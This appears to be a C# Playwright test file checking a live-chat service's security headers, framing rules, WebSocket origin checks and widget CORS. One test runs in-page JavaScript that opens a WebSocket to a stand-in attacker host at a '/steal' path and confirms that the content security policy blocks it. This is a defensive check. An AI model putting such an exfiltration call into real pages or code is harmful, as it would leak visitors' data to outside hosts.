using Microsoft.Playwright;

namespace LiveChat.Tests.Browser;

/// <summary>The node serves its pages with their security headers, and the widget's script to any site.</summary>
[Collection(BrowserServerCollection.Name)]
public sealed class PagesServedTests(BrowserServer fixture)
{
    [Theory]
    [InlineData("/", "Northwind Outfitters")]
    [InlineData("/agent", "Agent console")]
    [InlineData("/supervisor", "Supervisor dashboard")]
    public async Task EachPageLoadsWithAContentSecurityPolicy(string path, string title)
    {
        var page = await fixture.NewPageAsync();
        var response = await page.GotoAsync(fixture.Page(path).ToString());

        Assert.Equal(200, response!.Status);
        Assert.Contains(title, await page.TitleAsync());
        var headers = await response.AllHeadersAsync();
        Assert.Contains("script-src 'self'", headers["content-security-policy"]);
        Assert.Equal("nosniff", headers["x-content-type-options"]);
        await page.Context.CloseAsync();
    }

    [Theory]
    [InlineData("/agent")]
    [InlineData("/supervisor")]
    public async Task TheConsolesCannotBeFramedLeakNoReferrerAndBreakNoneOfTheirPolicy(string path)
    {
        var page = await fixture.NewPageAsync();
        await using var browser = page.Context;
        var response = await page.GotoAsync(fixture.Page(path).ToString());
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        var headers = await response!.AllHeadersAsync();
        Assert.Contains("frame-ancestors 'none'", headers["content-security-policy"]);
        Assert.Contains("connect-src 'self'", headers["content-security-policy"]);
        Assert.Equal("DENY", headers["x-frame-options"]);
        Assert.Equal("no-referrer", headers["referrer-policy"]);
        Assert.Empty(await page.EvaluateAsync<string[]>("() => window.__cspViolations"));

        // A script that got into the page anyway (a compromised dependency) cannot send what it read to another host.
        var outcome = await page.EvaluateAsync<string>(@"() => new Promise(resolve => {
            try {
                const socket = new WebSocket('ws://203.0.113.9:9/steal');
                socket.onopen = () => resolve('open');
                socket.onerror = () => setTimeout(() => resolve('error'), 100);
            } catch (e) { resolve('refused'); }
        })");
        Assert.Contains(await page.EvaluateAsync<string[]>("() => window.__cspViolations"), v => v.StartsWith("connect-src ws://203.0.113.9:9"));
        Assert.NotEqual("open", outcome);
    }

    [Fact]
    public async Task TheWidgetScriptCarriesNoFrameOrPageRestrictions()
    {
        using var http = fixture.Server.Http();
        using var response = await http.GetAsync("/widget.js");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.False(response.Headers.Contains("X-Frame-Options"));
        Assert.False(response.Headers.Contains("Content-Security-Policy"));
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Fact]
    public async Task TheWidgetsFrameMayBeShownOnlyByTheNodeAndTheAllowedSitesAndTalksOnlyToTheNode()
    {
        using var http = fixture.Server.Http();
        using var response = await http.GetAsync("/widget/frame?queue=support");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.False(response.Headers.Contains("X-Frame-Options"));
        var policy = response.Headers.GetValues("Content-Security-Policy").Single();
        var ancestors = policy.Split(';', StringSplitOptions.TrimEntries).Single(d => d.StartsWith("frame-ancestors ", StringComparison.Ordinal));
        Assert.Equal($"frame-ancestors 'self' {fixture.Site.GetLeftPart(UriPartial.Authority)}", ancestors);
        Assert.Contains("connect-src 'self'", policy);
        Assert.Contains("script-src 'self'", policy);
        Assert.Equal("no-referrer", response.Headers.GetValues("Referrer-Policy").Single());
    }

    /// <summary>
    /// A WebSocket needs no CORS, so a page anywhere could open one to the visitor hub with a visitor token it holds;
    /// only the node's check of the Origin header stops a site that was not allowed.
    /// </summary>
    [Fact]
    public async Task OnlyAnAllowedSitesPagesOpenTheVisitorHubsWebSocket()
    {
        const string Open = """
            url => new Promise(resolve => {
              const socket = new WebSocket(url);
              socket.onopen = () => { socket.close(); resolve('open'); };
              socket.onerror = () => resolve('refused');
            })
            """;
        var session = await fixture.Server.OpenVisitorSession("Socket");
        var socket = new Uri(fixture.Server.BaseAddress, $"/hubs/visitor?access_token={Uri.EscapeDataString(session.AccessToken)}").ToString().Replace("http://", "ws://");

        var queue = fixture.Floor.Queue();
        var foreign = await fixture.NewPageAsync();
        await using var foreignBrowser = foreign.Context;
        await foreign.GotoAsync(fixture.ShopPage(queue, fixture.ForeignSite).ToString());
        var allowed = await fixture.NewPageAsync();
        await using var allowedBrowser = allowed.Context;
        await allowed.GotoAsync(fixture.ShopPage(queue).ToString());

        Assert.Equal("refused", await foreign.EvaluateAsync<string>(Open, socket));
        Assert.Equal("open", await allowed.EvaluateAsync<string>(Open, socket));
    }

    [Fact]
    public async Task TheWidgetScriptIsServedToAnySite()
    {
        using var http = fixture.Server.Http();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/widget.js");
        request.Headers.Add("Origin", "https://any-shop.example");
        using var response = await http.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/javascript", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("*", response.Headers.GetValues("Access-Control-Allow-Origin").Single());
        Assert.True((await response.Content.ReadAsStringAsync()).Length > 1000, "widget.js is the built bundle, not a placeholder");
    }
}
